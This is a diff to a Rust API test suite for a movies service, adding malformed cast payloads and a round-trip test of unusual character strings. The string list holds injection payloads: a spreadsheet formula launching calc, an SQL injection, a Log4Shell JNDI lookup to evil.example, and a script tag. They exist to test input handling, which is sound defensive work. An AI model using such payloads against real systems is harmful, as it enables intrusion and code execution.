@@ -9,7 +9,10 @@ const ACTOR: &str = r#""name": "Ida", "age": 34, "gender": "f""#;
 const KIB_64: usize = 64 * 1024;
 
 pub(super) fn rows() -> Vec<Row> {
-    [malformed(), ruleless(), ages(), dates(), taken(), sizes(), chunked()].into_iter().flatten().collect()
+    [malformed(), ruleless(), ages(), dates(), casts(), characters(), taken(), sizes(), chunked()]
+        .into_iter()
+        .flatten()
+        .collect()
 }
 
 fn post(what: &str, body: impl AsRef<[u8]>, status: u16) -> Row {
@@ -192,6 +195,121 @@ fn dates() -> Vec<Row> {
             Row::new(&what, "PATCH", "/movies/1", 422).body(format!(r#"{{"release_date": {date}}}"#))
         })
         .collect()
+}
+
+fn casts() -> Vec<Row> {
+    let ids = [
+        "0",
+        "-1",
+        "1.5",
+        "1e400",
+        "9007199254740992",
+        "18446744073709551617",
+        "\"1\"",
+        "\"actor#1\"",
+        "true",
+        "null",
+        "[1]",
+        r#"{"N": "1"}"#,
+        r#"{"$gt": 0}"#,
+        r#"{"$serde_json::private::Number": "1"}"#,
+    ];
+    let billings =
+        ["0", "-1", "1001", "1.5", "1e400", "65537", "\"1\"", "true", "[]", r#"{"$serde_json::private::Number": "1"}"#];
+    let characters = [
+        r#""""#,
+        r#"" ""#,
+        r#""\u3000""#,
+        r#""a\u0000b""#,
+        r#""a\nb""#,
+        r#""\u001b[31m""#,
+        r#""\u0085a\u0085b""#,
+        r#""\ud800""#,
+        "1",
+        "true",
+        r#"["Rick"]"#,
+        r#"{"S": "Rick"}"#,
+        r#"{"$serde_json::private::RawValue": "\"Rick\""}"#,
+    ];
+    let whole = [
+        "1",
+        "\"\"",
+        "{}",
+        "true",
+        "\"[]\"",
+        "[1]",
+        "[null]",
+        "[[]]",
+        "[\"1\"]",
+        "[{}]",
+        r#"{"0": {"actor_id": 1}, "length": 1}"#,
+        r#"[{"Actor_id": 1}]"#,
+        r#"[{"actor_id ": 1}]"#,
+        r#"[{"__proto__": {"actor_id": 1}}]"#,
+        r#"[{"actor_id": 1}, {"actor_id": 1}]"#,
+        r#"[{"actor_id": 1}, {"actor_id": 1.0}]"#,
+        r#"[{"actor_id": 1, "actor_id": 0}]"#,
+        r#"[{"actor_id": 99}]"#,
+        r#"[{"actor_id": 1}, {"actor_id": 9007199254740991}]"#,
+    ];
+    let long = format!(r#"[{{"actor_id": 1, "character": "{}"}}]"#, "é".repeat(201));
+    let digits = format!(r#"[{{"actor_id": {}}}]"#, "9".repeat(60_000));
+    let deep = format!("{}{}", "[".repeat(9000), "]".repeat(9000));
+    let deep_member = format!(r#"[{{"actor_id": {}1{}}}]"#, "[".repeat(9000), "]".repeat(9000));
+    let many = format!("[{}1]", "1,".repeat(30_000));
+    let members: Vec<_> = (2..=1002).map(|id| format!(r#"{{"actor_id":{id}}}"#)).collect();
+    let (thousand, more) = (format!("[{}]", members[..1000].join(",")), format!("[{}]", members.join(",")));
+    let long = [long, digits, deep, deep_member, many, thousand, more];
+    let casts = (ids.into_iter().map(|id| format!(r#"[{{"actor_id": {id}}}]"#)))
+        .chain(billings.map(|billing| format!(r#"[{{"actor_id": 1, "billing": {billing}}}]"#)))
+        .chain(characters.map(|character| format!(r#"[{{"actor_id": 1, "character": {character}}}]"#)))
+        .chain(whole.map(str::to_owned))
+        .chain(long);
+    let refused = casts.flat_map(|cast| {
+        let what: String = cast.chars().take(50).collect();
+        let body = format!(r#"{{"title": "Changed", "cast": {cast}}}"#);
+        [("PATCH", "/movies/1"), ("POST", "/movies")]
+            .map(|(method, path)| Row::new(&format!("a cast of {what} ({method})"), method, path, 422).body(&body))
+    });
+    let missing =
+        Row::new("a bad cast of a movie that is not there", "PATCH", "/movies/99", 404).body(r#"{"cast": 7}"#);
+    let of_actor = Row::new("a cast of an actor", "PATCH", "/actors/1", 200).body(r#"{"cast": 7, "credits": [{}]}"#);
+    let large = format!(r#"{{"cast": [{}]}}"#, r#"{"actor_id":1},"#.repeat(5000));
+    let large = Row::new("a cast over 64 KiB", "PATCH", "/movies/1", 413).body(large);
+    refused.chain([missing, of_actor, large]).collect()
+}
+
+/// Texts that mean something to some program: they are characters, and come back as they were sent.
+fn characters() -> Vec<Row> {
+    let long = "𝕏".repeat(200);
+    let texts = [
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "@SUM(1)",
+        "-1",
+        "' OR '1'='1",
+        "#character",
+        ":billing",
+        r#"{"S": "x"}"#,
+        "${jndi:ldap://evil.example/a}",
+        "<script>alert(1)</script>",
+        "a\u{202e}b",
+        "\u{200b}",
+        "e\u{301}",
+        "movie#1",
+        "\u{10ffff}",
+        "a\u{2028}b",
+        "null",
+        &long,
+    ];
+    let recast = |text: &str| {
+        let body = json!({"cast": [{"actor_id": 1, "character": text, "billing": 7, "name": "x", "movie_id": 2, "owner": "movie#2"}]});
+        let cast = json!([{"actor_id": 1, "name": "Ida", "character": text, "billing": 7}]);
+        let what: String = text.chars().take(40).collect();
+        let row = Row::new(&format!("the character {what:?}"), "PATCH", "/movies/1", 200).body(body.to_string());
+        row.changes(Change::Cast(1, cast))
+    };
+    texts.map(recast).into()
 }
 
 fn taken() -> Vec<Row> {
